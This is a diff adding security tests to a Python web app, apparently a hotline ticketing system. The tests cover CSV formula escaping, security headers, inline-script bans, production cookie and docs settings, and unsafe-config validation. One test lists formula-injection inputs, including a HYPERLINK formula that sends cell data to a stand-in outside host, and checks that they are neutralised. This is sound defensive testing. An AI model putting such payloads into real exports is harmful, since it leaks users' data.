@@ -320,3 +320,98 @@ def test_audit_log_records_transcripts_exports_and_lookups_for_supervisors(clien
     page = client.get("/staff/audit")
     assert page.status_code == 200 and "查阅记录" in page.text
     assert "导出工单 CSV" in page.text and "audit-conv-1" in page.text and "testclient" in page.text
+
+
+# ---- 4. exports and pages
+
+
+def test_csv_export_neutralises_formula_cells(client: Any) -> None:
+    import csv
+    import io
+
+    add_staff(client, "hot", StaffRole.HOTLINE)
+    login(client, "hot")
+    csrf = csrf_of(client.get("/staff").text)
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"点这里")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+    for text in evil:
+        body = {"type": "咨询", "content": text, "callback_phone": "+86 139 1234 5678"}
+        assert client.post("/staff/api/workorders", json=body, headers={"X-CSRF-Token": csrf}).status_code == 201
+    rows = list(csv.reader(io.StringIO(client.get("/staff/workorders.csv").text.lstrip("\ufeff"))))
+    contents = {row[3] for row in rows[1:]}
+    assert contents == {"'" + t for t in evil}
+    assert all(row[4].startswith("'+86") for row in rows[1:])
+    assert rows[1][0][0].isdigit(), "ordinary cells stay as they are"
+
+
+def test_security_headers_on_every_response(client: Any) -> None:
+    for path in ["/", "/p/NA010001", "/staff/login", "/api/guides/nope", "/no-such-page", "/openapi.json"]:
+        r = client.get(path)
+        csp = r.headers.get("content-security-policy", "")
+        assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp, path
+        assert r.headers["x-content-type-options"] == "nosniff", path
+        assert r.headers["referrer-policy"] == "strict-origin-when-cross-origin", path
+        assert "strict-transport-security" not in r.headers, "HSTS only in production"
+    assert client.get("/docs").status_code == 200  # outside production the docs stay
+
+
+def test_templates_have_no_inline_script_or_event_handlers() -> None:
+    import re
+    from pathlib import Path
+
+    import web
+
+    root = Path(web.__file__).parent
+    for path in [*root.glob("templates/**/*.html"), root / "render/html.py", *root.glob("static/*.js")]:
+        text = path.read_text(encoding="utf-8")
+        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), f"{path}: inline <script>"
+        assert not re.search(r"\son[a-z]+\s*=\s*[\"'{]", text), f"{path}: inline event handler"
+        assert not re.search(r"\sstyle\s*=\s*[\"'{]|<style", text), f"{path}: inline style"
+        assert "javascript:" not in text, path
+
+
+def test_production_hides_docs_sends_hsts_and_secure_cookies(settings: Any, kb: Any, tmp_path: Any) -> None:
+    from fastapi.testclient import TestClient
+    from pydantic import SecretStr
+
+    from knowledge.settings import Environment
+    from web.app import create_app
+
+    prod = settings.model_copy(
+        update={
+            "environment": Environment.PRODUCTION,
+            "secret_key": SecretStr("x" * 40),
+            "database_url": f"sqlite:///{tmp_path / 'prod.db'}",
+        }
+    )
+    app = create_app(prod, kb=kb)
+    with TestClient(app, base_url="https://testserver") as c:
+        assert c.get("/docs").status_code == 404 and c.get("/redoc").status_code == 404
+        assert c.get("/openapi.json").status_code == 200, "the contract stays"
+        assert c.get("/").headers["strict-transport-security"].startswith("max-age=")
+        add_staff(c, "lin")
+        assert "Secure" in login(c, "lin").headers["set-cookie"]
+        r = c.post("/api/chat", json={"session": "prod-cookie-1", "text": "你好"})
+        assert all("Secure" in v for v in r.headers.get_list("set-cookie"))
+
+
+@pytest.mark.parametrize(
+    ("extra", "complaint"),
+    [
+        ({"hotline_webhook_url": "https://12345.example/hook"}, "MENPAI_HOTLINE_WEBHOOK_SECRET"),
+        (
+            {"hotline_webhook_url": "https://12345.example/hook", "hotline_webhook_secret": "changethis"},
+            "MENPAI_HOTLINE_WEBHOOK_SECRET",
+        ),
+        ({"wechat_token": "token", "wechat_appid": "wx1", "wechat_secret": "s-real-123"}, "MENPAI_WECHAT_TOKEN"),
+        ({"wechat_token": "a-real-token-9", "wechat_appid": "wx1"}, "MENPAI_WECHAT_SECRET"),
+        ({"wechat_api_base": "fake"}, "fake"),
+    ],
+)
+def test_production_refuses_to_start_with_unsafe_settings(extra: dict[str, str], complaint: str) -> None:
+    from pydantic import ValidationError
+
+    from knowledge.settings import Settings
+
+    with pytest.raises(ValidationError, match=complaint):
+        Settings(environment="production", secret_key="k" * 40, **extra)  # type: ignore[arg-type]
+    Settings(environment="test", secret_key="k" * 40, **extra)  # type: ignore[arg-type]
